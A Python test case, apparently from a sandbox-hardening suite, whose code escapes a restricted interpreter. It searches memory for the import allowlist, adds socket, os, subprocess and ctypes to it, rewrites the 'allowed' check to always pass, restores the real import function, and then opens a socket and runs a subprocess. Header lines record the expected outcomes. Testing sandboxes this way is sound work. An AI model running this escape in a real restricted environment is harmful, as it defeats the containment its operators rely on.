# trick: find the allowlist itself in memory, add names to it, take the check away, then import what was refused
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def walk(limit=200000):
    """Every object that can be reached from the loaded modules and the collector's lists, what it has frozen included."""
    import json
    gc = json.codecs.sys.modules["gc"]
    skip = {id(gc), id(walk)}
    seen = {}
    todo = [json.codecs.sys.modules, object, *gc.get_objects()]
    skip |= {id(seen), id(todo), id(skip)}
    while todo and len(seen) < limit:
        thing = todo.pop()
        if id(thing) in seen or id(thing) in skip:
            continue
        seen[id(thing)] = thing
        todo += gc.get_referents(thing)
    return list(seen.values())


def run(ctx):
    builtins, found = reach("builtins"), []
    changed = 0
    for o in walk():
        if type(o) in (set, dict, list) and "textwrap" in o and "zoneinfo" in o and len(o) < 200:
            if type(o) is set:
                o.update(("socket", "os", "subprocess", "ctypes", "_socket"))
            elif type(o) is list:
                o.extend(("socket", "os", "subprocess", "ctypes", "_socket"))
            else:
                o.update(dict.fromkeys(("socket", "os", "subprocess", "ctypes", "_socket"), o["textwrap"]))
            changed += 1
        if type(o).__name__ == "function" and o.__name__ == "allowed":
            o.__code__ = (lambda *names: True).__code__
            changed += 1
        if type(o) is dict and getattr(o.get("__import__"), "__module__", "") not in ("", "builtins", None):
            o["__import__"] = builtins.__import__
            changed += 1
    print("changed", changed)
    builtins.__import__ = reach("_frozen_importlib").__import__
    for name in ("socket", "subprocess", "ctypes", "_socket"):
        try:
            exec("import " + name, {})
        except (ImportError, AttributeError):
            continue
        if name in ("_socket", "ctypes"):
            found.append(name)
        else:
            try:
                reach(name).socket() if name == "socket" else reach(name).run(["true"])
                found.append(name)
            except (OSError, AttributeError):
                pass
    return found
